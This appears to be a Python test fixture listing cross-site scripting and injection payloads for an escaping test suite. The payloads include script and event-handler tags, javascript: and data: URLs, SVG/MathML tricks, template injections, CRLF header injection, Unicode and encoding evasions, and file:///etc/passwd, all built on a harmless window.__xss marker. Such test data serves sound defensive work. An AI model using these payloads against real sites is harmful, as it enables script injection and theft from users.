"""Texts that become elements, attributes, scripts or addresses wherever they are not told as text: shapes in contexts.

Of our own making; each would set `window.__xss` if a browser took it for more than text.
"""

from itertools import product
from typing import Final

from tests.amount import LONG

JS: Final = "window.__xss=1"
FAR: Final = "//elsewhere.invalid/x"
ENDINGS: Final = ("{}", '">{}', "'>{}", "</script></title></textarea>{}", "--> ]]>{}")
"""What may stand before a shape: nothing, the end of an attribute, of an element that holds only text, of a comment."""
SHAPES: Final = (
    f"<script>{JS}</script>",
    f"<script src={FAR}.js></script>",
    f"<ScRiPt\n>{JS}</sCrIpT\t>",
    f"<img src=x onerror={JS}>",
    f"<img/src='x'/onerror='{JS}'/>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><a xlink:href='javascript:{JS}'><text>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={JS}></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
    f"<iframe src=javascript:{JS}></iframe>",
    f"<iframe srcdoc='&lt;script>parent.{JS}&lt;/script>'></iframe>",
    f"<body onload={JS}>",
    f"<a href=javascript:{JS}>x</a>",
    f"<form action=javascript:{JS}><button>x</button></form>",
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>x</details>",
    f"<object data='data:text/html,<script>{JS}</script>'></object>",
    f"<base href={FAR}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<link rel=stylesheet href={FAR}.css>",
    f"<style>*{{background:url({FAR})}}</style>",
    f"<p style='background:url(javascript:{JS})'>x</p>",
    f"<template><script>{JS}</script></template>",
)
SINGLE: Final = (
    # attributes
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f'" autofocus onfocus={JS} x="',
    f"` onclick=`{JS}",
    f"x onclick={JS}",
    f'"onpointerenter={JS}//',
    '" style="position:fixed;inset:0',
    '" id="main" class="js',
    "' name='q' form='picked",
    # never closed, closed wrongly
    f"<img src=x onerror={JS}",
    f"<script>{JS}",
    f"<<script>{JS}//<</script>",
    "<textarea>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript><img src=x>'>",
    "<select><option>",
    "<table><tr><td>",
    "</main></body></html>",
    "<",
    # comments, CDATA, instructions
    f"<!--><script>{JS}</script>",
    f"<!--[if true]><script>{JS}</script><![endif]-->",
    "<!--",
    "--!>",
    "<![CDATA[",
    f"<![CDATA[<script>{JS}</script>]]>",
    "<?xml version='1.0'?>",
    f"<?x <script>{JS}</script>?>",
    "<!DOCTYPE x>",
    "%3Cb%3E",
    '<!ENTITY x "y">',
    "&x;",
    # entities and escapes, which are to stay as they are written
    "&lt;script&gt;x&lt;/script&gt;",
    "&#60;b&#62;x",
    "&#x3c;img src=x&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&quot;&apos;",
    "&NotAName;",
    "%3Cscript%3Ex%3C/script%3E",
    "\\u003cscript\\u003ex",
    "\\x3cb\\x3e",
    "+ADw-script+AD4-x",
    "&lt",
    '\\"</b>',
    # templates
    "{{7*7}}",
    "{% include 'base.html' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('x')()}}",
    # JSON, JSON-LD, CSS, LaTeX
    f'</script><script type="application/ld+json">{{"@type":"Book"}}</script><script>{JS}</script>',
    '"},{"@type":"x',
    "\u2028window.__xss=1\u2029",
    "</style><style>*{display:none}</style>",
    "expression(x)",
    "\\write18{x}",
    "\\input{x}",
    # characters: nothing, directions, doubles of < and >, odd spaces
    f"<scr\0ipt>{JS}</scr\0ipt>",
    f"\0<b>{JS}",
    "\u202e<b>x\u202c",
    "\u2066<i>x\u2069",
    "\ufeff<b>x</b>",
    "＜script＞x＜/script＞",
    "‹script›x‹/script›",
    "﹤b﹥x﹤/b﹥",
    f"<\u0130mg src=x onerror={JS}>",
    f"<\u017fcript>{JS}</\u017fcript>",
    "\ufffe<b>\uffff",
    f"<img\x0bsrc=x\x0conerror={JS}>",
    "\x1b[31m<b>",
    "<b\u00a0onclick=x>",
    "𝕏<𝐛>x",
    "\U000e0001<b>x",
    "\r\nX-Evil: 1\r\n\r\n<b>",
    # addresses
    f"javascript:{JS}",
    f"JaVaScRiPt:void({JS})",
    f" javascript:{JS}",
    f"java\tscript:{JS}",
    f"\x01javascript:{JS}",
    f"javascript&colon;{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:x",
    f"view-source:javascript:{JS}",
    FAR,
    "\\\\elsewhere.invalid\\x",
    "/\\elsewhere.invalid",
    "http:elsewhere.invalid",
    "file:///etc/passwd",
    "blob:x",
    f'http://elsewhere.invalid/"onclick="{JS}',
    f"http://elsewhere.invalid/'><img src=x onerror={JS}>",
    "https://user:pw@elsewhere.invalid/<b>",
    f"feed:javascript:{JS}",
    f"https://elsewhere.invalid/?q=javascript:{JS}",
)


def vectors() -> tuple[str, ...]:
    """Every shape behind every ending, and the single ones."""
    return (*(ending.format(shape) for shape, ending in product(SHAPES, ENDINGS)), *SINGLE)


def fewer_vectors() -> tuple[str, ...]:
    """Every shape behind an ending, every ending before some shapes, and the single ones; with LITBASE_LONG all."""
    if LONG:
        return vectors()
    return (*(ENDINGS[n % len(ENDINGS)].format(shape) for n, shape in enumerate(SHAPES)), *SINGLE)
